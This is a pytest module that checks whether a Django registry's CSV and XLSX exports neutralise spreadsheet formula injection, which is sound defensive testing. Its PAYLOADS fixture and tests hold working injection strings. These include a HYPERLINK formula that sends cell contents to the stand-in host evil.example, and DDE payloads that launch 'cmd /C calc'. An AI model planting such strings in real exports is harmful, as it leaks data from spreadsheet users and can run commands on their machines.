"""No export of the project hands a spreadsheet program a formula.

Text a user typed (an organisation's name, a reservist's name, a region or profile
name changed in the admin) that starts with = + - @ tab or CR must come out of every
CSV with a leading apostrophe and out of every XLSX as a string cell (never a formula),
while numbers and dates stay numbers and dates. All exports go through one writer
(accounts.exporting); the last tests fail when a new export bypasses it.
"""

import csv
import html
import io
import re
import tokenize
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.urls import URLResolver, get_resolver, resolve
from import_export.mixins import BaseExportMixin

from accounts import exporting
from accounts.models import Membership
from accounts.services import grant_membership
from registry.models import Profession, Profile, Region
from tests.dashboard.factories import book, local, make_request, make_shift, train_fully
from tests.factories import CareOrganisationFactory, ReservistFactory, make_persona, region

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
PAYLOADS = {
    "region": HYPERLINK,
    "profile": "@SUM(1+1)*cmd|' /C calc'!A0",
    "organisation": '+HYPERLINK("http://evil.example/","x")',
    "other_organisation": "=1+2",
    "first_name": "-2+3+cmd|' /C calc'!A0",
    "last_name": "\t=1+1",
    "postcode": "\r=1+1",
    "big_number": "=2*3",
    "profession": "@evil",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- the writer itself ----------------------------------------------------------------


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())  # the byte-order mark for accents
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _as_xml(text: str) -> str:
    """XML (so XLSX) reads a carriage return back as a line feed."""
    return text.replace("\r", "\n")


def _xlsx_cells(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("start", FORMULA_START)
def test_writer_neutralises_text_that_would_start_a_formula(start):
    text = start + 'HYPERLINK("http://evil.example/","x")'
    csv_rows = _csv_rows(exporting.render("csv", ["Name"], [[text]]))
    assert csv_rows == [["Name"], ["'" + text]]
    cell = _xlsx_cells(exporting.render("xlsx", ["Name"], [[text]]))[1][0]
    assert cell.data_type == "s" and cell.value == _as_xml(text)  # kept, as text
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited, too


def test_writer_keeps_plain_text_numbers_and_dates_as_they_are():
    day, moment = date(2026, 3, 2), datetime(2026, 3, 2, 8, 30)
    row = ["Zorggroep Utrecht", -3, 0, 2.5, Decimal("1.25"), day, moment, None, "-3"]
    headers = [f"c{i}" for i in range(len(row))]
    csv_rows = _csv_rows(exporting.render("csv", headers, [row]))
    assert csv_rows[1] == [
        "Zorggroep Utrecht",
        "-3",  # a negative number is a number, not a formula
        "0",
        "2.5",
        "1.25",
        "2026-03-02",
        "2026-03-02 08:30:00",
        "",
        "'-3",  # the same characters as text are neutralised
    ]
    cells = _xlsx_cells(exporting.render("xlsx", headers, [row]))[1]
    assert [c.value for c in cells[:7]] == [
        "Zorggroep Utrecht",
        -3,
        0,
        2.5,
        1.25,
        datetime(2026, 3, 2),
        moment,
    ]
    assert [c.data_type for c in cells[1:5]] == ["n"] * 4
    assert cells[5].is_date and cells[6].is_date
    assert not cells[0].quotePrefix and not cells[1].quotePrefix
    assert cells[8].value == "-3" and cells[8].data_type == "s"


def test_writer_neutralises_headers_and_survives_control_characters():
    content = exporting.render("xlsx", ["=Header"], [["bell\x07", "=x\x00"]])
    header, row = _xlsx_cells(content)
    assert header[0].data_type == "s" and header[0].value == "=Header"
    assert row[0].value == "bell\N{REPLACEMENT CHARACTER}"
    assert row[1].data_type == "s"
    assert _csv_rows(exporting.render("csv", ["=Header"], []))[0] == ["'=Header"]


def test_writer_marks_its_downloads_and_names_the_file():
    response = exporting.download("xlsx", ["a"], [[1]], 'nzr-figures-Zuid "x".xlsx', "Tab")
    assert exporting.made_by_writer(response)
    assert response["Content-Type"] == exporting.CONTENT_TYPES["xlsx"]
    assert response["Content-Disposition"].startswith("attachment;")
    assert '"x"' not in response["Content-Disposition"]  # a quote cannot end the name
    with pytest.raises(ValueError):
        exporting.render("ods", ["a"], [])


def test_import_export_admin_exports_use_the_writer():
    """django-import-export's admin exports (should an admin offer them) go through it."""
    formats = BaseExportMixin().get_export_formats()
    assert formats == exporting.ADMIN_EXPORT_FORMATS
    dataset = tablib.Dataset(["=1+1", -3], headers=["@name", "count"])
    as_csv = formats[0]().export_data(dataset)
    assert _csv_rows(as_csv.encode()) == [["'@name", "count"], ["'=1+1", "-3"]]
    cells = _xlsx_cells(formats[1]().export_data(dataset))
    assert cells[1][0].data_type == "s" and cells[1][1].value == -3
    offering = [a for a in admin.site._registry.values() if isinstance(a, BaseExportMixin)]
    for model_admin in offering:
        assert set(model_admin.get_export_formats()) <= set(exporting.ADMIN_EXPORT_FORMATS)


# --- every export of every role, with planted formulas --------------------------------


@pytest.fixture
def planted(reference):
    """Data whose every user-typed text starts a formula, and the users who export it."""
    Region.objects.filter(code="VR09").update(name=PAYLOADS["region"])
    Profile.objects.filter(code="vpk-algemeen").update(name=PAYLOADS["profile"])
    Profession.objects.filter(code="verpleegkundige").update(name=PAYLOADS["profession"])
    first = CareOrganisationFactory(name=PAYLOADS["organisation"], region=region("VR09"))
    second = CareOrganisationFactory(name=PAYLOADS["other_organisation"], region=region("VR09"))
    reservist = ReservistFactory(
        first_name=PAYLOADS["first_name"],
        last_name=PAYLOADS["last_name"],
        postcode=PAYLOADS["postcode"],
        big_number=PAYLOADS["big_number"],
    )
    reservist.profiles.add(Profile.objects.get(code="vpk-algemeen"))
    train_fully(reservist)
    book(make_shift(make_request(first), "vpk-algemeen", local(2026, 3, 2, 8, 0), 2), reservist)
    make_shift(make_request(second), "vpk-algemeen", local(2026, 3, 3, 8, 0), 1)
    care_org = make_persona(Membership.Role.CARE_ORG, organisation=first)
    grant_membership(care_org, Membership.Role.CARE_ORG, organisation=second)
    return {
        "national_coordinator": make_persona(Membership.Role.NATIONAL),
        "triangle_member": make_persona(Membership.Role.TRIANGLE, party=Membership.Party.VWS),
        "regional_coordinator": make_persona(Membership.Role.REGIONAL, region=region("VR09")),
        "care_org_user": care_org,
    }


# The pages that offer downloads, and who may open them.
PAGES = {
    "/figures/": ["national_coordinator", "triangle_member"],
    "/figures/region/VR09/": ["national_coordinator", "triangle_member", "regional_coordinator"],
    "/figures/organisation/": ["care_org_user"],
    "/register/reservists/": ["national_coordinator", "regional_coordinator"],
}
DOWNLOAD_LINK = re.compile(r'href="([^"]*(?:/export/|format=)[^"]*)"')


def _download_links(client, page: str) -> list[str]:
    response = client.get(page)
    assert response.status_code == 200, page
    return sorted({html.unescape(url) for url in DOWNLOAD_LINK.findall(response.content.decode())})


def _check_csv(content: bytes, url: str) -> set[str]:
    found = set()
    for row in _csv_rows(content):
        for value in row:
            assert not value.startswith(FORMULA_START), (url, value)
            if value.startswith("'"):
                found.add(value[1:])
    return found


def _check_xlsx(content: bytes, url: str) -> set[str]:
    found = set()
    for row in _xlsx_cells(content):
        for cell in row:
            assert cell.data_type != "f", (url, cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.startswith((*FORMULA_START, "\n")):
                assert cell.data_type == "s" and cell.quotePrefix, (url, cell.value)
                found.add(cell.value)
    return found


def test_every_offered_download_neutralises_every_planted_formula(client, planted):
    seen = {"csv": {}, "xlsx": {}}  # payload -> the URLs it came out of, per format
    views = set()
    for page, personas in PAGES.items():
        for persona in personas:
            client.force_login(planted[persona])
            links = _download_links(client, page)
            assert links, (page, persona)
            for url in links:
                response = client.get(url)
                assert response.status_code == 200, (persona, url)
                assert exporting.made_by_writer(response), url
                assert response["Content-Disposition"].startswith("attachment")
                fmt = "xlsx" if "spreadsheetml" in response["Content-Type"] else "csv"
                assert response["Content-Type"] == exporting.CONTENT_TYPES[fmt]
                check = _check_xlsx if fmt == "xlsx" else _check_csv
                for text in check(response.content, url):
                    seen[fmt].setdefault(text, set()).add(url)
                views.add(resolve(url.split("?")[0]).view_name)
    assert views == SPREADSHEET_EXPORTS
    seen["xlsx"] = {text.replace("\n", "\r"): urls for text, urls in seen["xlsx"].items()}
    for fmt in ("csv", "xlsx"):
        assert set(PAYLOADS.values()) <= set(seen[fmt]), fmt  # each planted text came out
        region_urls = seen[fmt][PAYLOADS["region"]]
        assert any(u.startswith("/figures/export/pool_region") for u in region_urls)
        assert any(u.startswith("/figures/region/VR09/export/demand_region") for u in region_urls)
        organisation_urls = seen[fmt][PAYLOADS["organisation"]]
        assert any(
            u.startswith("/figures/organisation/export/requests.") for u in organisation_urls
        )


def test_exports_keep_numbers_and_dates_typed(client, planted):
    client.force_login(planted["national_coordinator"])
    rows = _xlsx_cells(client.get("/register/reservists/export/?format=xlsx").content)
    ids, big_valid_until, ring = rows[1][0], rows[1][10], rows[1][11]
    assert ids.data_type == "n" and ring.value == 1
    assert big_valid_until.is_date
    rows = _xlsx_cells(client.get("/figures/export/shifts_week.xlsx").content)
    assert all(r[1].is_date for r in rows[1:]) and all(r[2].data_type == "n" for r in rows[1:])


# --- no export may bypass the writer ------------------------------------------------

# Every URL whose name says it exports or downloads, and what it returns. A new one
# fails the test below until it is listed here (and, if a spreadsheet, downloaded above).
SPREADSHEET_EXPORTS = {
    "dashboard:national_export",
    "dashboard:region_export",
    "dashboard:organisation_export",
    "registry:reservist_export",
}
OTHER_DOWNLOADS = {
    "registry:my_data_download": "JSON of the reservist's own data",
    "api:me-export": "JSON of the reservist's own data",
    "mfa_download_recovery_codes": "allauth: the user's recovery codes as text",
}


def _url_names(resolver, prefix=""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from _url_names(pattern, namespace)
        elif pattern.name:
            yield prefix + pattern.name


def test_every_export_url_is_known():
    names = {n for n in _url_names(get_resolver()) if re.search("export|download", n, re.I)}
    assert names == SPREADSHEET_EXPORTS | set(OTHER_DOWNLOADS)


def test_own_data_downloads_are_json_not_spreadsheets(client, reservist):
    client.force_login(reservist)
    response = client.get("/register/me/data/download/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")


# Only the writer may write CSV or spreadsheets, or name their content types.
FORBIDDEN = re.compile(
    r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|\bodf\b|pyexcel|text/csv|"
    r"spreadsheetml|opendocument|ms-excel|tab-separated-values|\.export\(\s*['\"]"
)


def _code_without_comments(path: Path) -> str:
    with path.open("rb") as fh:
        return " ".join(
            tok.string for tok in tokenize.tokenize(fh.readline) if tok.type != tokenize.COMMENT
        )


def test_only_the_writer_writes_csv_or_spreadsheets():
    writer = ROOT / "accounts" / "exporting.py"
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {".venv", "tests", "node_modules", "staticfiles"} or path == writer:
            continue
        if "migrations" in parts:
            continue
        found = FORBIDDEN.findall(_code_without_comments(path))
        if found:
            offenders.append((str(path.relative_to(ROOT)), sorted(set(found))))
    assert offenders == []
    assert FORBIDDEN.search(_code_without_comments(writer))  # the scan sees the writer's
